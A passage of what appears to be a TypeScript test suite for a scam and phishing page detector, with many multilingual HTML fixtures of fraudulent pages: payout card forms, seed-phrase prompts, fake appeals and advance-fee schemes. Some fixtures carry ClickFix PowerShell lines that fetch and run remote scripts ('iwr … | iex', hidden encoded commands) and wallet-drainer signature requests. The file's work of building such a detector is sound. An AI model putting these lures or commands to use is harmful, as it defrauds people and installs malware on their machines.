      decides('payout-card-form', 'https://blocket-se.saker-handel.example/order/4471', '<title>Ta emot betalning</title><h1>Köparen har betalat</h1><p>Ange ditt kort för att ta emot betalningen på 1 250 kr.</p><form><input name="cc" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc"><button>Ta emot</button></form>');
      // "You are entitled to a refund" in Dutch beside card fields; an e-transfer received, in French, through a bank to pick; the Dutch tax office's refund named on a host no government publishes on.
      decides('payout-card-form', 'https://klantenzone.terugbetaling-be.example/', '<title>Terugbetaling</title><h1>Dubbele betaling gedetecteerd</h1><p>U heeft recht op een terugbetaling van € 74,50.</p><form><input name="cc" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><button>Terugbetaling aanvragen</button></form>');
      decides('bank-picker-payout', 'https://virement.depot-securise.example/fr/depot', '<title>Virement | Déposez votre argent</title><p>Bonjour, vous avez reçu un virement de CLINIQUE DENTAIRE ST-LAURENT. 785,00 $</p><p>Choisissez votre institution financière</p><ul><li><a href="/b/1">Banque Nationale</a></li><li><a href="/b/2">Banque Laurentienne</a></li></ul>');
      decides('government-fee', 'https://mijn-belastingdienst.teruggave-online.example/aanvraag', '<title>Belastingdienst | Teruggaaf inkomstenbelasting</title><h1>Belastingdienst</h1><p>U heeft recht op een teruggaaf van € 312,84. Kies hieronder uw bank om uw rekeningnummer te bevestigen.</p>');
      decides('payout-card-form', 'https://marktplaats-nl.veilig-verzenden.example/b/8812', '<title>Betaling ontvangen</title><h1>De koper heeft betaald</h1><p>Ontvang uw betaling van € 85 door uw kaartgegevens te bevestigen.</p><form><input name="cc" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc"><button>Ontvangen</button></form>');
    });

    it('the fake-update pretext in any word order: "La versione di Chrome non è aggiornata", "Twoja wersja przeglądarki jest przestarzała", beside the update a hacked site hands over', () => {
      decides('malware-lure-download', 'https://www.trattoria-da-mario.example/menu', '<h1>Menu</h1><p>La versione di Google Chrome non è aggiornata e non può mostrare questa pagina.</p><a href="/wp-content/uploads/Chrome_Update.exe">Aggiorna Chrome</a>');
      decides('malware-lure-download', 'https://www.blog-ogrodnika.example/wpis', '<h1>Wpis</h1><p>Twoja wersja przeglądarki jest przestarzała.</p><a href="/wp-content/uploads/update_browser.zip">Zaktualizuj teraz</a>');
    });

    it('relief appeals: a flood appeal taking donations in Bitcoin with no registration (in English and in Japanese, whose words are not spaced), and one whose collector is "in oprichting", are scams, though both speak of victims; a registered charity that also takes crypto, a state fundraising platform on its government\'s host, and an explorer with a footer "Donate" address are clean', () => {
      decides('unregistered-appeal', 'https://flood-relief-now.example/donate', '<title>Emergency appeal: help the flood victims</title><h1>Donate now</h1><p>Thousands of victims have lost everything. Victims need water and shelter today.</p><p>Donate in crypto, the fastest way: BTC bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax</p>');
      decides('unregistered-appeal', 'https://noodhulp-kinderen.example/doneer', '<title>Doneer nu</title><h1>Doneer voor de kinderen</h1><p>Met €20 geeft u een gezin eten voor een week.</p><p>Stichting Noodhulp (in oprichting)</p><button>Doneer €20</button>');
      clean(judge('https://www.waterhope.example/donate', '<title>Donate | WaterHope</title><h1>Donate to our emergency appeal</h1><p>WaterHope is a registered charity (charity number 1182345). We also accept Bitcoin: bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax</p>'));
      clean(judge('https://u24.gov.ua/donate', '<title>UNITED24 — Donate</title><h1>Donate</h1><p>Official fundraising platform. Crypto: bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax</p>'));
      // "Registration with the Charity Commission is pending" says it is not registered, whatever body it names; donors asked to give by gift card is an untraceable payment.
      const pending = judge('https://quake-children-relief.example/donate/', '<title>Earthquake Children Relief Fund – Donate Now</title><h1>Children are sleeping in the rubble tonight</h1><p>Because banks are slow, we ask donors to give by gift card or bank transfer.</p><button>Donate £25</button><p>Our relief fund is a volunteer initiative. Registration with the Charity Commission is pending.</p>');
      assert.ok(pending.decidedBy?.includes('combo:unregistered-appeal') && ids(pending).includes('untraceable-payment-text'), JSON.stringify(ids(pending)));
      decides('unregistered-appeal', 'https://hisaichi-shien.example/donate', '<title>被災地への寄付</title><h1>被災者支援への寄付</h1><p>暗号資産でのご寄付: bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax</p>');
      clean(judge('https://explorer.example/address/0x3f5CE5FBFe3E9af3971dD833D26bA9b5C936f0bE', '<title>Address 0x3f5C…f0bE | Explorer</title><h1>Address</h1><p>Balance 1.2 ETH</p><footer><a href="/donate">Donate</a> to keep this explorer free: 0x3f5CE5FBFe3E9af3971dD833D26bA9b5C936f0bE</footer>'));
    });

    it('a Ukrainian "state payment" to claim by card in PrivatBank\'s name on a host PrivatBank does not own (the kit\'s claim reads as the host\'s own name without the registry)', () => {
      decides('brand-credentials', 'https://privat24-vyplata.example/card/', '<title>Приват24 — Отримання виплати</title><h1>ПриватБанк</h1><p>Вам нараховано одноразову державну допомогу 6 500,00 ₴. Вкажіть дані картки.</p><form><input name="cc" autocomplete="cc-number" placeholder="Номер картки"><input name="cvv" placeholder="CVV"></form>');
      clean(judge('https://next.privat24.ua/', '<title>Приват24</title><h1>Приват24</h1><form><input name="phone"><input type="password" name="pw"></form>'));
    });

    it('recovery phrases asked for in Vietnamese and Korean; a giveaway that "returns 2×" what is sent to its wallet; a Korean explainer of seed phrases with no field is clean', () => {
      decides('seed-phrase', 'https://vi-wallet-verify.example/xac-minh', '<title>Xác minh ví</title><h1>Xác minh ví</h1><p>Ví của bạn đã bị tạm khóa. Vui lòng xác minh để mở khóa trong 24 giờ.</p><form><label>Cụm từ khôi phục (12 từ)</label><textarea name="p"></textarea><button>Xác minh</button></form>');
      decides('seed-phrase', 'https://wallet-recovery-kr.example/recovery', '<title>지갑 복구</title><h1>지갑 보안 점검</h1><p>네트워크 업그레이드로 시드 구문을 다시 등록해야 합니다.</p><form><label>비밀 복구 구문 (12단어)</label><textarea name="m"></textarea><button>등록하기</button></form>');
      decides('crypto-giveaway', 'https://anniversary-gift.example/event', '<h1>9th Anniversary giveaway</h1><p>Participate by sending any amount of BNB between 0.5 and 50 to the event wallet; the event contract returns 2× to the sending address.</p><p>0x5B38Da6a701c568545dCfcB03FcB875f56beddC4</p>');
      // Romanian and Swedish recovery phrases, the word with or without its article's ending.
      decides('seed-phrase', 'https://wallet-validare.example/validare', '<title>Validare portofel</title><h1>Validare portofel</h1><p>Portofelele nevalidate vor fi restricționate.</p><form><textarea name="d" placeholder="Introduceți fraza de recuperare de 12 sau 24 de cuvinte"></textarea><button>Validează</button></form>');
      decides('seed-phrase', 'https://planbok-verifiering.example/', '<title>Verifiera plånbok</title><h1>Verifiera din plånbok</h1><form><label>Återställningsfras</label><textarea name="m"></textarea><button>Verifiera</button></form>');
      clean(judge('https://www.crypto-academy-kr.example/guide/seed', '<title>시드 구문이란? | 크립토 아카데미</title><h1>시드 구문이란?</h1><p>복구 구문은 지갑을 되살리는 12단어입니다. 종이에 적어 안전한 곳에 보관하세요.</p>'));
    });

    it("a payout form that only warns never to share the seed phrase asks for none; the same form asking for it does", () => {
      const form = (words: string): ScanResult => judge('https://app.payroll-wallets.example/settings/payout-methods', `<title>Payout methods</title><h1>Payout methods</h1><form method="post" action="/api/payout-methods"><h3>Add a crypto wallet</h3><label>Wallet address</label><input type="text" name="address" placeholder="0x…"><p>${words}</p><button>Add wallet</button></form>`);
      const warned = form('Never share your seed phrase or private key — we only need your public address.');
      assert.ok(!ids(warned).includes('credential-seed-phrase'), JSON.stringify(ids(warned)));
      clean(warned);
      const asked = form('To confirm ownership, enter your seed phrase below.');
      assert.ok(ids(asked).includes('credential-seed-phrase'), JSON.stringify(ids(asked)));
    });

    it('a command to copy with Run-dialog steps, in a brand\'s name on a host the brand does not own, is ClickFix; the same steps on an IT help page in its own name are not', () => {
      const url = 'https://teams-interview.meeting-join.example/l/meetup-join/19';
      const html = (title: string): string => `<title>${title}</title><h1>${title}</h1><p>Your audio device could not be started.</p><pre id="c">powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA</pre><button onclick="navigator.clipboard.writeText(document.getElementById('c').textContent)">Copy</button><ol><li>Press Windows + R</li><li>Press Ctrl + V and then Enter</li></ol>`;
      decides('clickfix-branded-steps', url, html('Microsoft Teams'));
      const own = judge(url, html('Meeting Join IT help'));
      assert.ok(!own.decidedBy?.includes('combo:clickfix-branded-steps'), `${own.verdict} ${own.decidedBy?.join(',')}`);
    });

    it('a command to copy that hides what it runs (hidden window, encoded command), with Run-box steps, is ClickFix without any fake check; a help page whose plain command is run so stays clean', () => {
      const page = (command: string): string => `<title>Consulta virtual</title><h1>Verificación de video</h1><p>Para entrar en la sala, complete la verificación.</p><textarea id="c" readonly>${command}</textarea><button onclick="document.getElementById('c').select();document.execCommand('copy')">Copiar</button><ol><li>Pulse Windows + R</li><li>Pegue con Ctrl + V</li><li>Presione Enter</li></ol>`;
      decides('clickfix-hidden-command', 'https://sala-consulta.example/es/verificacion', page('powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'));
      const plain = judge('https://helpdesk.clinic-example.org/kb/teams', page('powershell -ExecutionPolicy Bypass -Command "iwr https://helpdesk.clinic-example.org/fix-teams.ps1 | iex"'));
      assert.ok(ids(plain).includes('shell-command-text') && !ids(plain).includes('hidden-shell-command'), JSON.stringify(ids(plain)));
      clean(plain);
      // What hides a command is read in the command, not in the words before it ("Ticket #4471").
      const ticket = judge('https://helpdesk.clinic-example.org/kb/4471', '<title>Teams fix</title><h1>Teams fix</h1><p>Ticket #4471, run: <code id="c">powershell -ExecutionPolicy Bypass -Command "iwr https://helpdesk.clinic-example.org/fix-teams.ps1 | iex"</code></p><button onclick="navigator.clipboard.writeText(document.getElementById(\'c\').textContent)">Copy</button><ol><li>Press Windows + R</li><li>Paste with Ctrl + V</li><li>Press Enter</li></ol>');
      assert.ok(!ids(ticket).includes('hidden-shell-command'), JSON.stringify(ids(ticket)));
      // A '#' that more commands follow is a script's comment line (the page's text lost its line breaks), not the
      // comment that ends a ClickFix one-liner.
      const script = judge('https://helpdesk.clinic-example.org/kb/ca', '<title>Install the Wi-Fi certificate</title><h1>Install the Wi-Fi certificate</h1><pre id="c">Invoke-WebRequest -Uri https://helpdesk.clinic-example.org/ca.cer -OutFile $env:TEMP\\ca.cer\n# check the hash first\nImport-Certificate -FilePath $env:TEMP\\ca.cer -CertStoreLocation Cert:\\CurrentUser\\Root</pre><button onclick="navigator.clipboard.writeText(document.getElementById(\'c\').textContent)">Copy</button><ol><li>Press Windows + R</li><li>Paste with Ctrl + V</li><li>Press Enter</li></ol>');
      assert.ok(!ids(script).includes('hidden-shell-command'), JSON.stringify(ids(script)));
      const robot = judge('https://helpdesk.clinic-example.org/kb/robot', page('powershell iwr https://helpdesk.clinic-example.org/fix.ps1 | iex # I am not a robot - Verification ID 4471'));
      assert.ok(ids(robot).includes('hidden-shell-command'), JSON.stringify(ids(robot)));
    });

    it('an airdrop claim that connects a wallet on a host dressed as the claim errand (claim-….xyz) is a drainer; the same claim on the project\'s own host is not judged by it', () => {
      const body = '<title>$HEALTH Claim</title><h1>$HEALTH airdrop is live</h1><p>Check if you are eligible and claim your tokens before the window closes.</p><button id="c">Connect Phantom</button><script>document.getElementById("c").onclick=async()=>{const r=await window.phantom.solana.connect();console.log(r.publicKey.toString())}</script>';
      decides('wallet-lure-dressed-host', 'https://claim-healthtoken.xyz/', body);
      const own = judge('https://app.healthtoken.example/claim', body);
      assert.ok(ids(own).includes('wallet-lure-text') && ids(own).includes('wallet-connect-request'), JSON.stringify(ids(own)));
      assert.ok(!own.decidedBy?.includes('combo:wallet-lure-dressed-host'), `${own.verdict} ${own.decidedBy?.join(',')}`);
    });

    it('a batch permit signed after connecting a wallet, on a host dressed as the claim errand, is a drainer even without lure words; on the project\'s own host it is a dapp', () => {
      const body = '<title>Borealis Genesis</title><h1>Borealis Genesis pass</h1><button id="c">Connect wallet</button><script>document.getElementById("c").onclick=async()=>{const [a]=await ethereum.request({method:"eth_requestAccounts"});const typed={primaryType:"PermitBatch",types:{PermitBatch:[{name:"details",type:"PermitDetails[]"},{name:"spender",type:"address"},{name:"sigDeadline",type:"uint256"}]}};await ethereum.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(typed)]})}</script>';
      decides('wallet-lure-approval', 'https://borealis-genesis-claim.art/', body);
      const own = judge('https://app.borealisgenesis.example/', body);
      assert.ok(ids(own).includes('wallet-approval-request'), JSON.stringify(ids(own)));
      assert.ok(!own.decidedBy?.includes('combo:wallet-lure-approval'), `${own.verdict} ${own.decidedBy?.join(',')}`);
    });

    it('prices in shekels are read as prices: item after item cut by 80 % on a throwaway shop is a fake outlet; an ordinary sale in shekels is not', () => {
      const shop = (pairs: string): string => `<title>Closing sale | Sneakers Outlet</title><h1>Closing sale</h1>${pairs}<button>Add to cart</button>`;
      decides('throwaway-outlet', 'https://sneakers-outlet-il.shop/collections/sale', shop('<p>Nike Air Max 270 ₪649 ₪119</p><p>Adidas Samba OG ₪499 ₪89</p><p>New Balance 550 ₪579 ₪99</p><p>Nuptse jacket ₪1,390 ₪199</p>'));
      clean(judge('https://sneakers-outlet-il.shop/collections/sale', shop('<p>Nike Air Max 270 ₪649 ₪519</p><p>Adidas Samba OG ₪499 ₪399</p><p>New Balance 550 ₪579 ₪459</p><p>Nuptse jacket ₪1,390 ₪1,090</p>')));
    });

    it('a TON airdrop in Russian that connects Tonkeeper and sends a plain transfer to an address the page holds is a drainer; a TON swap whose message carries a payload is not plain', () => {
      const drop = (message: string): ScanResult => judge('https://token-drop.example/claim', `<title>Раздача токенов</title><h2>Второй этап раздачи</h2><p>Подключите кошелёк TON, чтобы получить ваучеры.</p><button id="t">Подключить Tonkeeper</button><script>document.getElementById('t').onclick=async function(){var p=window.tonkeeper&&window.tonkeeper.provider;var acc=await p.send('ton_requestAccounts');await p.send('ton_sendTransaction',[{valid_until:1,messages:[{${message}}]}]);}</script>`);
      const plain = drop("address:'UQBvW8Z5huBkMJYdnfAEM5JqTNkuWX3diqYENkWsIL0XggGG',amount:String(9e8)");
      assert.ok(plain.decidedBy?.includes('combo:wallet-lure-approval'), `${plain.verdict} ${plain.decidedBy?.join(',')} ${JSON.stringify(ids(plain))}`);
      const swap = drop("address:'EQBvW8Z5huBkMJYdnfAEM5JqTNkuWX3diqYENkWsIL0XggGG',amount:'100000000',payload:'te6cckEBAQEA'");
      assert.ok(!ids(swap).includes('wallet-plain-transfer'), JSON.stringify(ids(swap)));
    });

    it("a registry brand's app on its own host naming itself names a partner's token without impersonating it; a kit on a SharePoint tenant naming DocuSign still impersonates DocuSign", () => {
      const restake = judge('https://app.eigenlayer.xyz/restake/stETH', '<title>Restake stETH | EigenLayer</title><h1>Restake stETH</h1><button>Connect Wallet</button><script>async function c(){await window.ethereum.request({method:"eth_requestAccounts"})}</script>');
      assert.ok(!ids(restake).includes('brand-impersonation'), JSON.stringify(ids(restake)));
      clean(restake);
      const tenant = judge('https://contoso1.sharepoint.com/sites/finance/docusign.aspx', '<title>DocuSign | Review document</title><h1>DocuSign</h1><p>Please review and sign the document.</p><form><input name="email"><input type="password" name="pw"></form>');
      assert.ok(ids(tenant).includes('brand-impersonation'), JSON.stringify(ids(tenant)));
    });

    it('Chinese brands are named in Chinese: an Alipay sign-in titled 支付宝 off alipay.com impersonates Alipay; SF Express on its own host does not', () => {
      const kit = judge('https://zfb-anquan.example/h5/jiedong.html', '<title>支付宝</title><h1>账户安全中心</h1><p>您的账户已被限制收付款。</p><form><input name="u"><input type="password" name="p"><button>解除限制</button></form>');
      assert.ok(ids(kit).includes('brand-impersonation'), JSON.stringify(ids(kit)));
      const own = judge('https://www.sf-express.com/chn/sc/waybill/list', '<title>顺丰速运 | 运单追踪</title><h1>运单追踪</h1><form><input name="waybill"><button>查询</button></form>');
      assert.ok(!ids(own).includes('brand-impersonation') && !ids(own).includes('identity-not-own'), JSON.stringify(ids(own)));
    });

    it("a Sogou input method download on a host Sogou does not own is malware; WPS Office's download on wps.cn is its own", () => {
      const fake = judge('https://www.sogoushurufa-pc.example/', '<title>搜狗输入法 - 官方下载</title><h1>搜狗输入法</h1><a class="btn" href="/download/sogou_pinyin_14.2.0.1246.zip">立即下载</a>');
      assert.equal(fake.verdict, 'malicious', `${fake.verdict} ${JSON.stringify(ids(fake))}`);
      clean(judge('https://www.wps.cn/product/wpswindows', '<title>WPS Office 2024 for Windows - WPS官方网站</title><h1>WPS Office</h1><a href="https://official-package.wpscdn.cn/wps/download/WPS_Setup_17120.exe">免费下载</a>'));
    });

    it('an acronym names its brand only in capitals: "Scam pop-ups" is not UPS, "UPS Redelivery" is; longer names in capitals are read in any case ("Orlen" is ORLEN)', () => {
      const named = (text: string): string[] => brandsNamedIn(rules, text).map((b) => b.brand.name);
      assert.ok(!named('Scam pop-ups and refund calls: what to know').includes('UPS'), JSON.stringify(named('Scam pop-ups and refund calls')));
      assert.ok(named('UPS | Redelivery').includes('UPS'));
      assert.ok(named('Orlen Invest AI').some((n) => /orlen/i.test(n)), JSON.stringify(named('Orlen Invest AI')));
    });

    it("an office is nobody's brand: a sheriff's office or a post office is not Microsoft", () => {
      const sheriff = judge('https://www.countysheriff-bonds.example/pay', "<title>Sheriff's Office – Bond payments</title><h1>Sheriff's Office</h1><p>Pay a bond for an inmate held at the county jail.</p>");
      assert.ok(!ids(sheriff).includes('brand-impersonation'), JSON.stringify(ids(sheriff)));
      const post = judge('https://track.post-parcels.example/', '<title>Post Office | Track a parcel</title><h1>Post Office parcel tracking</h1><form><input name="ref"><button>Track</button></form>');
      assert.ok(!ids(post).includes('brand-impersonation'), JSON.stringify(ids(post)));
    });

    it("a plugin's live demo that prints the login to type ('Demo credentials: demo / demo') asks for no one's password; the same form without them on that host is a kit", () => {
      const page = (note: string): ScanResult => judge('https://demo.login-style-plugins.example/custom-login/', `<title>Custom Login Page Customizer – Live Demo</title><p>This is how your WordPress login page could look with FormCraft Login. ${note}</p><form><input name="log"><input type="password" name="pwd"><button>Log In</button></form>`);
      const demo = page('Demo credentials: demo / demo.');
      assert.ok(!ids(demo).includes('credential-password'), JSON.stringify(ids(demo)));
      clean(demo);
      clean(judge('https://themes.example/demo/login', '<title>Theme demo</title><p>Username: demo, Password: demo</p><form><input name="u"><input type="password" name="p"></form>'));
      assert.ok(ids(page('Sign in to continue.')).includes('credential-password'));
    });

    it('a mystery-shopper check scam: keep part of a deposited check as pay, buy gift cards and send photos of the codes, tell no staff', () => {
      decides('untraceable-payment', 'https://shopper-evaluations.example/assignment/', '<h1>Your Mystery Shopper Assignment</h1><p>Dear Shopper, enclosed is a check for $1,800.00. Deposit it today. Keep $300 as your payment.</p><p>Purchase six $250 gift cards at a store of your choice. Scratch the back of the cards and send photos of the codes to your coordinator.</p>');
    });

    it('how a scam wants to be paid: gift-card codes, a money-transfer agent, a private payee, the receipt over a messenger, secrecy from the bank, each beside a scam half or another payment trait; a shop that sells gift cards and a bank warning about them stay clean', () => {
      // "Send the slip" (South African, Indian, South-East Asian English for the payment's receipt) over WhatsApp.
      decides('payment-proof', 'https://mine-recruitment.example/vacancies', '<h1>Mine recruitment 2026</h1><p>Shortlisted candidates must pay a once-off R350 registration fee to secure a place at the induction.</p><p>Pay via Cash Send to the HR officer and send the slip on WhatsApp.</p>');
      decides('untraceable-payment', 'https://escrow-vehicle-desk.example/order/77', '<h1>Your vehicle purchase is protected</h1><p>To release the car for shipping, purchase Steam gift cards totaling $4,200 at any Walmart and enter the codes below.</p><p>Do not discuss this transaction with store employees; they are not familiar with our program.</p>');
      decides('untraceable-payment', 'https://heritage-trust-claims.example/b/9', '<h1>Beneficiary notification</h1><p>You have been confirmed as the next of kin of the late Mr. Harold Vance.</p><p>Payment of the clearance fees should be made via Western Union to our remittance officer.</p>');
      decides('private-payee', 'https://kitten-home.example/reserve', '<h1>Reserve your kitten</h1><p>A deposit of $200 secures your kitten. Pay by PayID to kittens@mail.example (name shows as R. Adebayo – my husband’s account).</p><p>Please send a screenshot of the receipt on WhatsApp +61 400 000 000.</p>');
      decides('payment-proof', 'https://lucro-garantido.example/', '<h1>Lucros garantidos de 20% ao mês</h1><p>Rendimento garantido, sem risco. Depois do depósito, envie o comprovante pelo WhatsApp para liberar o seu saque.</p><p>Para liberar o saque, pague a taxa de liberação de 10%.</p>');
      decides('secret-payment', 'https://fondi-bloccati.example/pratica', '<h1>Your funds are ready</h1><p>Claim your inheritance of USD 2,400,000 today.</p><p>Kindly treat this with utmost confidentiality.</p>');
      const found = (r: ScanResult, id: string): boolean => ids(r).includes(id);
      const shop = judge('https://www.homeware-store.example/gift-cards', '<h1>Gift cards</h1><p>Buy gift cards for friends and family. Pay with a credit card or PayPal.</p><p>Nobody legitimate will ask you to pay a bill or a fine with gift cards.</p>');
      clean(shop);
      assert.ok(!found(shop, 'untraceable-payment-text'), JSON.stringify(ids(shop)));
      const bank = judge('https://www.riverbank.example/security', '<h1>Protect yourself</h1><p>We will never ask you to pay by gift cards or to send money via Western Union. Never share the codes on a gift card.</p>');
      clean(bank);
      assert.ok(!found(bank, 'untraceable-payment-text'), JSON.stringify(ids(bank)));
    });

    it('a service that promises to recover scam losses for a fee talks about scams to sell it: it is not a write-up, and the fee decides', () => {
      decides('advance-fee', 'https://www.crypto-reclaim-partners.example/start', '<h1>Scammed by a fake broker? Get your money back</h1><p>Our investigators have recovered $180 million for victims of crypto scams and phishing. 96% success rate.</p><ol><li>Tell us about the scam and the amount lost.</li><li>Pay the one-time tracing and filing fee ($1,200) so we can file the freeze order.</li><li>Your funds are returned within 14 days.</li></ol>');
      decides('advance-fee', 'https://www.asset-return-counsel.example/evaluation', '<h1>Lost money online? We get it back</h1><p>97% of our clients recovered their funds.</p><p>A one-time forensic tracing and legal filing retainer of $1,950 is required after evaluation.</p>');
      decides('payment-proof', 'https://care-visa-agency.example/apply', '<h1>Care worker visa</h1><p>Our partner care homes have approved 250 certificates of sponsorship this month.</p><p>Send your payment receipt with your full name to WhatsApp +44 7400 000000 for CoS release.</p>');
      const advice = judge('https://www.consumer-help.example/recovery-scams', `<h1>Beware of recovery scams</h1><p>After a scam, victims are often contacted again by fraudsters who promise to get their money back for a fee.</p><p>${'Genuine agencies and the police never charge to investigate a scam. '.repeat(8)}</p>`);
      clean(advice);
      // In French, lost money to get back and the payment taken in a stablecoin; a merchant that takes bitcoin sells, it promises nothing.
      decides('untraceable-payment', 'https://cabinet-recouvrement.example/', "<h1>Victime d'une arnaque en ligne ?</h1><p>Notre cabinet récupère l'argent perdu sur les plateformes frauduleuses.</p><p>Frais de dossier : 490 €. Paiement par virement ou en USDT.</p>");
      clean(judge('https://www.velo-atelier-kern.example/boutique', '<title>Boutique | Vélo Atelier Kern</title><h1>Vélo Atelier Kern</h1><p>Vélos reconditionnés, garantis un an. Paiement par carte, virement ou en bitcoin.</p><footer>© 2026 Vélo Atelier Kern</footer>'));
    });

    it('money to receive and card fields to receive it, on a page that does not name its host, is a kit (marketplace "safe deal", refunds); a shop\'s own refund form is not', () => {
      const form = '<form method="post"><label>Card number <input name="cc" autocomplete="cc-number"></label><label>Expiry <input name="exp" autocomplete="cc-exp"></label><label>CVV <input name="cvv" autocomplete="cc-csc"></label><button>Receive payment</button></form>';
      decides('payout-card-form', 'https://safe-deal.market-payments.example/order/3190544', `<title>Safe deal | Order 3190544</title><h1>The buyer has paid for your item</h1><p>To receive the funds, enter the card the money should be sent to.</p>${form}`);
      clean(judge('https://www.lumen-outfitters.example/refunds', `<title>Refunds | Lumen Outfitters</title><h1>Lumen Outfitters refunds</h1><p>Your refund of €42.00 has been approved. Refunds go back to the card you paid with.</p>${form}<footer>© 2026 Lumen Outfitters</footer>`));
      // A checkout's small refund line is not money promised: an amount in pence is not thousands.
      const summary = judge('https://pay.roastery-checkout.example/order', `<title>Payment</title><table><tr><td>Subscription credit</td><td>£31.40 Refund</td></tr></table>${form.replace('Receive payment', 'Pay now')}`);
      assert.ok(!summary.signals.some((s) => s.id === 'payout-promise-text'), JSON.stringify(summary.signals.map((s) => s.id)));
      // Malay: eligible to receive a subsidy, and the e-wallet's PIN and the MyKad number asked for it.
      decides('payout-card-form', 'https://subsidi-ewallet.example/tuntut/', '<title>Tuntutan Subsidi</title><h1>Tuntutan Subsidi RM200</h1><p>Anda layak menerima subsidi bahan api sasaran. Sila sahkan akaun eWallet anda sebelum 31 Julai.</p><form><input name="mykad" placeholder="No. MyKad"><input name="pin" type="password" placeholder="PIN eWallet 6 digit" maxlength="6"><button>Tuntut Sekarang</button></form>');
    });

    it('payment traits and fees in more scripts and languages: a card number with its holder, fees in Ukrainian and Swahili, Western Union in Arabic, a guaranteed work visa; a brand\'s lottery on a host it does not own', () => {
      decides('private-payee', 'https://robota-agency.example/vakansii', '<h1>Робота в Польщі</h1><p>Для бронювання місця потрібно оплатити страховий поліс — 3 900 грн. Оплата на картку 5168 7574 2210 4496 (Коваль О.).</p>');
      decides('advance-fee', 'https://mkopo-haraka.example/apply', '<h1>Mkopo wa haraka</h1><p>Ili mkopo wako utumwe, lipa ada ya usajili (KSh 650) kupitia M-PESA.</p>');
      decides('untraceable-payment', 'https://eu-jobs-visa.example/apply', '<h1>عقود عمل في أوروبا</h1><p>تأشيرة عمل مضمونة خلال 45 يوم.</p><p>رسوم فتح الملف 350 دولار تُدفع عبر ويسترن يونيون أو تحويل بنكي.</p>');
      decides('brand-payout', 'https://netflix-anniversary-draw.example/winner', '<title>Netflix anniversary draw</title><h1>Netflix anniversary draw</h1><p>Congratulations! You have won a prize of $2,500 in our anniversary draw. Claim your prize today.</p>');
    });

    it('the seller who cannot meet the buyer, paid to a webmail address; drugs without a prescription and degrees without study; a pharmacy\'s own over-the-counter page stays clean', () => {
      decides('private-payee', 'https://rentals-owner-direct.example/listing/2br', '<h1>2 bed condo, $1,650/month</h1><p>Hello, I am currently on a medical mission in Cameroon, so I can\'t show the condo in person. My lawyer will courier the keys once the deposit is received.</p><p>Please send the first month and the deposit by Interac e-Transfer to susan.whitman.md@gmail.com.</p>');
      decides('untraceable-payment', 'https://autotreuhand.example/transaktion/4419', '<h1>Treuhand-Transaktion</h1><p>Verkäufer: Andreas Köhler (derzeit beruflich in Dänemark).</p><p>Bitte zahlen Sie nur per Banküberweisung auf das Treuhandkonto.</p>');
      decides('unlicensed-sale', 'https://rx-pharmacy-online.example/weight-loss', '<h1>Buy Ozempic online without prescription</h1><p>No doctor visit needed. Discreet packaging, worldwide shipping.</p><p>Also popular: Xanax 2mg, Tramadol 100mg.</p>');
      decides('unlicensed-sale', 'https://www.belford-university.example/degrees', '<h1>Earn your accredited degree in 7 days</h1><p>No classes, no exams. Degrees based on your life experience.</p><p>Official transcripts with a GPA of your choice.</p>');
      clean(judge('https://www.cornerpharmacy.example/allergy', '<title>Allergy relief | Corner Pharmacy</title><h1>Cetirizine 10 mg</h1><p>Available without a prescription. Ask our pharmacist if you take other medicines.</p><p>Pay by card or PayPal.</p><footer>© 2026 Corner Pharmacy</footer>'));
    });

    it('job fees reimbursed with the first paycheck ("you\'ve been hired"); a supermarket\'s birthday voucher for the shipping cost, in Polish, on a host the supermarket does not own', () => {
      decides('advance-fee', 'https://careers.datapath-remote.example/onboarding', '<h1>Congratulations, you\'ve been hired!</h1><p>Certification and software license fee: $185.00 (one-time). This fee is fully reimbursed in your first paycheck.</p>');
      decides('advance-fee', 'https://payout-committee.example/schedule', '<h1>Compensation payment schedule</h1><p>Your compensation of US$ 1,500,000 is pending release.</p><p>You are required to pay only the delivery and card activation fee of $320.</p>');
      const voucher = judge('https://biedronka-nagrody.example/ankieta/', '<title>Biedronka – 30 urodziny! Odbierz bon 1000 zł</title><h1>Ankieta urodzinowa</h1><p>Odpowiedz na 3 pytania i wygraj bon o wartości 1000 zł!</p><p>GRATULACJE! Wygrałeś bon o wartości 1000 zł! Aby go otrzymać, opłać jedynie koszt wysyłki: 4,99 zł.</p>');
      assert.equal(voucher.verdict, 'malicious', JSON.stringify(ids(voucher)));
      assert.ok(ids(voucher).includes('brand-in-hostname'), JSON.stringify(ids(voucher)));
    });

    it('a brand name that is an ordinary word the page uses in lower case (a visa, not Visa) is not the brand; recruiters paid by GCash to an initial and a surname, or through a remittance centre', () => {
      const form = '<form method="post"><input name="cc" autocomplete="cc-number" placeholder="Card number"><input name="exp" autocomplete="cc-exp"><button>Pay</button></form>';
      const visa = judge('https://apply-online-portal.example/visa', `<title>Visa Application – Pay Fee</title><h1>Visa application fee</h1><p>Pay the visa fee by card. Your visa is usually issued within 3 days.</p>${form}`);
      assert.ok(!ids(visa).includes('brand-impersonation'), JSON.stringify(ids(visa)));
      assert.equal(visa.verdict, 'clean', JSON.stringify(ids(visa)));
      decides('private-payee', 'https://canada-jobs-hiring.example/apply', '<h1>Urgent hiring: caregivers</h1><p>LMIA document fee – PHP 18,500. Payment via GCash 0917-555-0188 (R. Dela Cruz – Processing Officer).</p><p>Send the receipt to our Facebook page to reserve your slot.</p>');
      decides('advance-fee', 'https://dv-lottery-status.example/winner', '<h1>Entrant status</h1><p>You have been randomly selected for further processing in the Diversity Visa Program.</p><p>The visa processing and air ticket reservation fee of US$ 879.00 must be paid within 10 days.</p>');
    });

    it('a card number asked beside the password, on a page that does not name its host, is a bank kit; a shop\'s own checkout with an account password is not', () => {
